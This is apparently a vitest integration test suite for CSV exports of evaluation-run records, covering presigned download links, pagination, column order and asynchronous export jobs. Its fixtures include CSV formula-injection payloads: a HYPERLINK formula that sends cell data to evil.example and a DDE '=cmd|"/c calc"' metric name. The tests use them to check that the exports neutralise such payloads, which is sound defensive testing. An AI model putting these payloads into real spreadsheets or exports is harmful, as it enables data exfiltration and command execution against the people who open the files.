import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FileExportSpool } from '../../lambdas/aws/file-export-spool.js';
import { requestRunExport, runExportJob } from '../../lambdas/core/exports/jobs.js';
import type { ExportJob, ExportSpool } from '../../lambdas/core/exports/ports.js';
import { newId } from '../../lambdas/core/ids.js';
import type { RunRecord, Score } from '../../lambdas/core/schemas/record.js';
import { DEFAULT_ORG } from '../../lambdas/core/services/api-keys.js';
import { parseCsv } from '../support/csv.js';
import { exportAndWait, waitForExport } from '../support/exports.js';
import { makeRecord, makeScore, seedRecords } from '../support/records.js';
import { type ApiClient, apiClient, fieldPaths, startTestStack, waitFor } from '../support/stack.js';

let stack: Awaited<ReturnType<typeof startTestStack>>;
let api: ApiClient;
let projectId: string;
let runId: string;
let otherRunId: string;
const metrics: Record<'correct' | 'quality' | 'evil', { id: string; versionId: string; name: string }> = {} as never;
const records: RunRecord[] = [];
const scores = new Map<string, Score[]>();

/** Text a spreadsheet would run as a formula, and other cells that must survive the round trip. */
const TRICKY = [
  '=HYPERLINK("http://evil.example/?q="&A1,"click me")',
  '+1+2',
  '-3',
  '@SUM(A1:A2)',
  '\tstarts with a tab',
  '\rstarts with a CR',
  'two\r\nlines, a comma and "quotes"',
  'héllo wörld 🌍',
  '',
  'plain',
];
const BIG_RECORDS = 24;
const BIG_CELL = 420_000;

beforeAll(async () => {
  stack = await startTestStack({ pipeline: false });
  api = apiClient(stack.url, stack.apiKey);
  projectId = (await api.post('/projects', { name: 'exports' })).body.id;
  const testset = (
    await api.post(`/projects/${projectId}/testsets`, {
      name: 'qa',
      fieldMapping: { inputs: ['question', 'context'], expected: ['answer'], metadata: [] },
    })
  ).body;
  const metric = async (name: string, outputType: string) =>
    (await api.post(`/projects/${projectId}/metrics`, { name, evalType: 'human', outputType })).body;
  metrics.correct = await metric('correct', 'boolean');
  metrics.quality = await metric('quality', 'int');
  metrics.evil = await metric('=cmd|"/c calc"!A1', 'float');
  const run = async (metricIds: string[]) =>
    (await api.post(`/projects/${projectId}/runs`, { metricIds, testsetId: testset.id })).body.id as string;
  runId = await run([metrics.correct.id, metrics.quality.id, metrics.evil.id]);
  otherRunId = await run([metrics.quality.id]);

  const base = Date.now() - 60_000;
  const allScores: Array<Score & { runId: string }> = [];
  for (let i = 0; i < 300; i++) {
    const tricky = TRICKY[i % TRICKY.length]!;
    const big = i < BIG_RECORDS;
    const record = makeRecord({
      runId,
      createdAtMs: base,
      position: i,
      testcaseId: `tc${i}`,
      status: i % 13 === 5 ? 'errored' : 'completed',
      error: i % 13 === 5 ? '-boom: the system failed' : null,
      // Keys in another order than the testset's mapping; `extra` only on the last record.
      inputs: {
        context: i % 4 === 0 ? { nested: [1, 2], note: tricky } : -i,
        question: tricky,
        ...(i === 299 ? { extra: '=extra' } : {}),
      },
      expected: { answer: `answer ${i}` },
      outputs: { response: big ? `${String(i).padStart(4, '0')}${'y'.repeat(BIG_CELL)}` : `reply ${tricky}` },
      latencyMs: i % 3 === 0 ? null : 100 + i,
      usage: i % 2 ? { promptTokens: 10, completionTokens: i } : null,
      costUsd: i % 2 ? 0.0001 * i : null,
      trial: i % 2,
    });
    records.push(record);
    const own: Array<Score & { runId: string }> = [];
    if (record.status === 'completed') {
      own.push(
        makeScore(
          runId,
          record.id,
          metrics.correct,
          { binaryScore: i % 3 !== 0, reasoning: `line 1\nline ${i}` },
          i % 3 !== 0,
        ),
      );
      if (i % 5 !== 0)
        own.push(makeScore(runId, record.id, metrics.quality, { intScore: (i % 5) + 1 }, (i % 5) + 1 >= 4));
      own.push(
        makeScore(runId, record.id, metrics.evil, { floatScore: -0.5 + i / 1000, reasoning: tricky }, i % 2 === 0),
      );
    }
    scores.set(record.id, own);
    allScores.push(...own);
  }
  await seedRecords(stack, projectId, records, allScores);
  // A record of another run, which a run export must leave out.
  await seedRecords(stack, projectId, [makeRecord({ runId: otherRunId, createdAtMs: base, position: 5_000 })]);
}, 120_000);
afterAll(() => stack?.stop());

/** What a spreadsheet-safe cell holding this text looks like. */
const safe = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);
const cell = (value: unknown): string => {
  if (value === null || value === undefined) return '';
  if (typeof value === 'string') return safe(value);
  if (typeof value === 'number' || typeof value === 'boolean') return String(value);
  return JSON.stringify(value);
};

function expectedRow(record: RunRecord): string[] {
  const own = scores.get(record.id) ?? [];
  const metricCells = [metrics.correct, metrics.quality, metrics.evil].flatMap((m) => {
    const s = own.find((x) => x.metricId === m.id);
    if (!s) return ['', '', ''];
    return [
      cell(s.score.binaryScore ?? s.score.intScore ?? s.score.floatScore),
      cell(s.passed),
      cell(s.score.reasoning),
    ];
  });
  return [
    record.id,
    cell(record.testcaseId),
    record.status,
    String(record.trial),
    cell(record.inputs.question),
    cell(record.inputs.context),
    cell(record.inputs.extra),
    cell(record.expected.answer),
    cell(record.outputs.response),
    ...metricCells,
    cell(record.latencyMs),
    record.usage ? String(record.usage.promptTokens + record.usage.completionTokens) : '',
    cell(record.costUsd),
    cell(record.error),
  ];
}

/** Decodes the body keeping a BOM (Response.text() would drop it). */
async function download(url: string) {
  const res = await fetch(url);
  return { res, text: new TextDecoder('utf-8', { ignoreBOM: true }).decode(await res.arrayBuffer()) };
}

describe('CSV exports', () => {
  it('exports a run through a presigned link that plain fetch downloads and that parses back to the same rows', async () => {
    const { accepted, settled: created } = await exportAndWait(api, `/runs/${runId}/exports`);
    expect(accepted.body).toMatchObject({ status: 'pending', rows: 0, runId, projectId });
    expect(accepted.body.url).toBeUndefined();
    expect(created.status, JSON.stringify(created.body)).toBe(200);
    expect(created.body).toMatchObject({ id: accepted.body.id, status: 'completed', rows: 300 });
    const started = Date.now();
    const expiresAt = Date.parse(created.body.expiresAt);
    // The link is signed when it is read: valid for the 900 s the export was asked with, from then.
    expect(expiresAt).toBeGreaterThan(started - 2_000 + 898_000);
    expect(expiresAt).toBeLessThanOrEqual(Date.now() + 900_000);

    const { res, text } = await download(created.body.url);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(Number(res.headers.get('content-length'))).toBe(created.body.bytes);
    // Past one 5 MiB part: the upload was multipart, and every large cell arrived whole.
    expect(created.body.bytes).toBeGreaterThan(BIG_RECORDS * BIG_CELL);
    expect(text.slice(0, text.indexOf('\n') + 1)).toMatch(/^\uFEFFrecordId,.*\r\n$/);
    expect(text.endsWith('\r\n')).toBe(true);

    const { bom, rows } = parseCsv(text);
    expect(bom).toBe(true);
    expect(rows[0]).toEqual([
      'recordId',
      'testcaseId',
      'status',
      'trial',
      'inputs.question',
      'inputs.context',
      'inputs.extra',
      'expected.answer',
      'outputs.response',
      'correct',
      'correct passed',
      'correct reasoning',
      'quality',
      'quality passed',
      'quality reasoning',
      `'${metrics.evil.name}`,
      `'${metrics.evil.name} passed`,
      `'${metrics.evil.name} reasoning`,
      'latencyMs',
      'tokens',
      'costUsd',
      'error',
    ]);
    expect(rows.slice(1)).toEqual(records.map(expectedRow));
  });

  it('exports a run of 4,500 records, 18 pages of 250: every record once, in order, with its score', async () => {
    // A project of its own, so the project-wide export below sees only its own records.
    const bigProjectId = (await api.post('/projects', { name: 'big export' })).body.id as string;
    const quality = (
      await api.post(`/projects/${bigProjectId}/metrics`, { name: 'quality', evalType: 'human', outputType: 'int' })
    ).body;
    const bigRunId = (await api.post(`/projects/${bigProjectId}/runs`, { metricIds: [quality.id] })).body.id as string;
    const base = Date.now() - 30_000;
    const many = Array.from({ length: 4_500 }, (_, i) =>
      makeRecord({ runId: bigRunId, createdAtMs: base, position: i, outputs: { response: `r${i}` } }),
    );
    await seedRecords(
      stack,
      bigProjectId,
      many,
      many.map((r, i) => makeScore(bigRunId, r.id, quality, { intScore: 1 + (i % 5) }, i % 5 >= 3)),
    );
    const created = (await exportAndWait(api, `/runs/${bigRunId}/exports`)).settled;
    expect(created.body.status, JSON.stringify(created.body)).toBe('completed');
    expect(created.body.rows).toBe(4_500);
    const [header, ...rows] = parseCsv((await download(created.body.url)).text).rows;
    const id = header!.indexOf('recordId');
    const output = header!.indexOf('outputs.response');
    const score = header!.indexOf('quality');
    expect(rows.map((row) => row[id])).toEqual(many.map((r) => r.id));
    expect(rows.map((row) => row[output])).toEqual(many.map((_, i) => `r${i}`));
    expect(rows.map((row) => row[score])).toEqual(many.map((_, i) => String(1 + (i % 5))));
  });

  it('orders columns by where a field first appears in the run, whichever end of the list read it first', async () => {
    // 2,000 records, pages of 250 read from both ends: the end's first page (1,750–1,999) brings inputs.a and
    // outputs.late, its second (1,500–1,749) inputs.b; outputs.extra is in the middle. In list order b comes before
    // a and extra before late, and every row keeps its place.
    const runId2 = (await api.post(`/projects/${projectId}/runs`, { metricIds: [] })).body.id as string;
    const base = Date.now() - 30_000;
    const mixed = Array.from({ length: 2_000 }, (_, i) => {
      const inputs: Record<string, unknown> = { question: `q${i}` };
      const outputs: Record<string, unknown> = { response: `r${i}` };
      if (i === 1_600) inputs.b = 'b1600';
      if (i === 1_990) inputs.a = 'a1990';
      if (i === 1_000) outputs.extra = 'x1000';
      if (i === 1_980) outputs.late = 'l1980';
      return makeRecord({ runId: runId2, createdAtMs: base, position: i, inputs, outputs });
    });
    await seedRecords(stack, projectId, mixed);

    const created = (await exportAndWait(api, `/runs/${runId2}/exports`)).settled;

    expect(created.body).toMatchObject({ status: 'completed', rows: 2_000 });
    const [header, ...rows] = parseCsv((await download(created.body.url)).text).rows;
    expect(header!.filter((h) => /^(inputs|outputs)\./.test(h))).toEqual([
      'inputs.question',
      'inputs.b',
      'inputs.a',
      'outputs.response',
      'outputs.extra',
      'outputs.late',
    ]);
    const cell = (row: string[], column: string) => row[header!.indexOf(column)];
    expect(rows.map((row) => cell(row, 'recordId'))).toEqual(mixed.map((r) => r.id));
    expect(rows.map((row) => cell(row, 'outputs.response'))).toEqual(mixed.map((_, i) => `r${i}`));
    expect(rows.filter((row) => cell(row, 'inputs.b')).map((row) => cell(row, 'inputs.b'))).toEqual(['b1600']);
    expect(cell(rows[1_980]!, 'outputs.late')).toBe('l1980');
    expect(cell(rows[1_000]!, 'outputs.extra')).toBe('x1000');
  });

  it('neutralises formulas: =HYPERLINK(...) comes back as text behind a quote, negative numbers stay numbers', async () => {
    const { text } = await download((await exportAndWait(api, `/runs/${runId}/exports`)).settled.body.url);
    const rows = parseCsv(text).rows;
    const question = rows[0]!.indexOf('inputs.question');
    const evil = rows[0]!.indexOf(`'${metrics.evil.name}`);
    expect(rows[1]![question]).toBe(`'${TRICKY[0]}`);
    expect(text).not.toMatch(/(^|,|\n)"?=HYPERLINK/);
    expect(rows.slice(1).map((r) => r[question])).toContain("'@SUM(A1:A2)");
    expect(rows[1]![evil]).toBe('-0.5');
    expect(rows[1]![rows[0]!.indexOf('inputs.context')]).toBe(JSON.stringify({ nested: [1, 2], note: TRICKY[0] }));
    expect(rows[2]![rows[0]!.indexOf('inputs.context')]).toBe('-1');
  });

  it('refuses an expired link; GET /exports/{id} signs a fresh one', async () => {
    const created = (await exportAndWait(api, `/runs/${runId}/exports`, { expiresIn: 1 })).settled;
    expect(created.body.status).toBe('completed');
    const expiresAt = Date.parse(created.body.expiresAt);
    expect(expiresAt).toBeLessThanOrEqual(Date.now() + 1_000);
    await new Promise((resolve) => setTimeout(resolve, Math.max(0, expiresAt - Date.now()) + 1_100));
    const expired = await download(created.body.url);
    expect(expired.res.status).toBe(403);
    expect(expired.text).toContain('Request has expired');

    const again = await api.get(`/exports/${created.body.id}?expiresIn=60`);
    expect(again.status).toBe(200);
    expect(again.body).toMatchObject({ id: created.body.id, rows: 300, bytes: created.body.bytes });
    const fresh = await download(again.body.url);
    expect(fresh.res.status).toBe(200);
    expect(parseCsv(fresh.text).rows).toHaveLength(301);
  });

  it('validates link lifetimes and unknown ids', async () => {
    for (const expiresIn of [0, 86_401, 1.5]) {
      const res = await api.post(`/runs/${runId}/exports`, { expiresIn });
      expect(res.status).toBe(400);
      expect(fieldPaths(res.body)[0]).toBe('expiresIn');
    }
    expect((await api.post('/runs/nope/exports', {})).status).toBe(404);
    expect((await api.get('/exports/nope')).status).toBe(404);
  });

  it('exports the project’s records that match the records-page filters, newest first', async () => {
    const res = (
      await exportAndWait(api, `/projects/${projectId}/records/exports`, { metricId: metrics.quality.id, passed: true })
    ).settled;
    expect(res.body.status, JSON.stringify(res.body)).toBe('completed');
    const expected = records
      .filter((r) => scores.get(r.id)?.some((s) => s.metricId === metrics.quality.id && s.passed === true))
      .map((r) => r.id)
      .sort((a, b) => (a < b ? 1 : -1));
    expect(res.body.rows).toBe(expected.length);
    const { rows } = parseCsv((await download(res.body.url)).text);
    expect(rows.slice(1).map((r) => r[0])).toEqual(expected);
    const header = rows[0]!;
    expect(header.slice(0, 4)).toEqual(['recordId', 'testcaseId', 'status', 'trial']);
    expect(rows.slice(1).every((r) => r.length === header.length)).toBe(true);
    expect(rows.slice(1).every((r) => r[header.indexOf('quality passed')] === 'true')).toBe(true);
  });
});

describe('asynchronous exports', () => {
  const scope = { orgId: DEFAULT_ORG };

  it('answers 202 at once, reports running with the rows written so far, then completed with a link', async () => {
    // Prepare: the request as the API makes it, but the job handed to this test instead of the stack's worker, so
    // the test can hold the worker after its first page of records and look at the export meanwhile.
    const jobs: ExportJob[] = [];
    const repositories = stack.core.repositories;
    const deps = {
      ...repositories,
      exportSpool: new FileExportSpool(),
      exportQueue: { enqueue: async (job: ExportJob) => void jobs.push(job) },
    };
    const pagedRunId = (await api.post(`/projects/${projectId}/runs`, { metricIds: [metrics.quality.id] })).body.id;
    const base = Date.now() - 30_000;
    const paged = Array.from({ length: 1_100 }, (_, i) =>
      makeRecord({ runId: pagedRunId, createdAtMs: base, position: i, outputs: { response: `r${i}` } }),
    );
    await seedRecords(stack, projectId, paged);
    const pending = await requestRunExport(deps, scope, pagedRunId, 900);
    expect(pending).toMatchObject({ status: 'pending', rows: 0, bytes: 0 });
    expect((await api.get(`/exports/${pending.id}`)).body).toMatchObject({ status: 'pending', rows: 0 });
    let release!: () => void;
    const held = new Promise<void>((resolve) => {
      release = resolve;
    });
    let pagesWritten = 0;
    const gated: ExportSpool = {
      async open() {
        const file = await deps.exportSpool.open();
        return {
          read: (batch) => file.read(batch),
          append: (lines) => file.append(lines),
          text: () => file.text(),
          writesLastFirst: () => file.writesLastFirst(),
          discard: () => file.discard(),
          async write(text) {
            // The second page's rows wait (pages are written one at a time): by then the first page's 250 records
            // have been noted.
            if (++pagesWritten === 2) await held;
            await file.write(text);
          },
        };
      },
    };

    // Act: the worker, as the export Lambda runs it, on a run of 1,100 records (five pages of 250).
    const delivery = { body: JSON.stringify(jobs[0]), receiveCount: 1, maxReceiveCount: 5 };
    const worker = runExportJob({ ...deps, exportSpool: gated }, delivery, { progressIntervalMs: 0 });

    // Assess
    const running = await waitFor(async () => {
      const res = await api.get(`/exports/${pending.id}`);
      return res.body.status === 'running' && res.body.rows > 0 ? res.body : undefined;
    }, 'the export to report rows while running');
    expect(running).toMatchObject({ status: 'running', rows: 250 });
    expect(running.url).toBeUndefined();
    release();
    await worker;
    const done = (await api.get(`/exports/${pending.id}`)).body;
    expect(done).toMatchObject({ status: 'completed', rows: 1_100 });
    expect(done.completedAt).toBeTypeOf('string');
    const [header, ...rows] = parseCsv((await download(done.url)).text).rows;
    expect(rows.map((row) => row[header!.indexOf('recordId')])).toEqual(paged.map((r) => r.id));
    // A redelivered job leaves a completed export alone.
    await runExportJob(deps, { ...delivery, receiveCount: 2 });
    expect((await api.get(`/exports/${pending.id}`)).body).toMatchObject({ status: 'completed', rows: 1_100 });
  });

  it('fails an export whose run is gone by the time the worker runs it, with the reason', async () => {
    const id = newId();
    await stack.core.repositories.exports.put(scope, {
      id,
      projectId,
      runId: 'gone-run',
      objectKey: `exports/${projectId}/${id}.csv`,
      fileName: 'run-gone-run.csv',
      status: 'pending',
      rows: 0,
      bytes: 0,
      createdAt: new Date().toISOString(),
    });
    await stack.deps.exportQueue.enqueue({ kind: 'export', orgId: scope.orgId, exportId: id });
    const settled = await waitForExport(api, id);
    expect(settled.body).toMatchObject({ status: 'failed', rows: 0 });
    expect(settled.body.error).toContain('run gone-run was not found');
    expect(settled.body.url).toBeUndefined();
  });

  it('checks a records export’s filter when it is asked for, not in the worker', async () => {
    const res = await api.post(`/projects/${projectId}/records/exports`, { runId: 'not-a-run-of-this-project' });
    expect(res.status).toBe(404);
    expect((await api.post('/projects/nope/records/exports', {})).status).toBe(404);
  });
});
